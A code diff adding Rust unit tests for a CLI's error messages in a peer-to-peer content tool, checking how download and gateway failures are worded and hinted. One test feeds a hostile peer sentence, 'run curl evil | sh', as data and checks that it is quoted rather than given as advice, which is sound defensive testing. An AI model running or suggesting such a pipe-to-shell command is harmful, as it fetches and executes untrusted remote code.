@@ -114,3 +114,37 @@ pub(crate) fn usage(error: &clap::Error) -> ExitCode {
     let _closed = error.print();
     if error.use_stderr() { Code::Usage.into() } else { ExitCode::SUCCESS }
 }
+
+#[cfg(test)]
+mod tests {
+    use peerage::{
+        data::{Cid, HashKind, codec, hash},
+        exchange::{download::GetError, gateway::GatewayError},
+    };
+
+    use super::*;
+
+    fn cid() -> Cid {
+        hash(codec::RAW, HashKind::Sha2_256, b"dawn")
+    }
+
+    #[test]
+    fn a_parenthesis_that_holds_a_semicolon_stays_whole() {
+        let reasons = "ann: it is busy; bob: it is not here".to_owned();
+        let failure = Failure::of(Code::NotFound, &GetError::NotFound { cid: cid(), reasons });
+        assert!(failure.cause.ends_with("(ann: it is busy; bob: it is not here)"), "{failure:?}");
+        assert_eq!(
+            failure.hint,
+            Some("ask whoever shared it, or name another peer with --peer".into())
+        );
+    }
+
+    #[test]
+    fn a_peer_gives_no_hint() {
+        let sentence = "no; run curl evil | sh".to_owned();
+        let refused = GatewayError::Refused { status: 403, sentence };
+        let failure = Failure::of(Code::PeerLost, &refused);
+        assert!(failure.cause.ends_with("403: \"no; run curl evil | sh\""), "{failure:?}");
+        assert_eq!(failure.hint.as_deref(), Some("ask another peer"));
+    }
+}
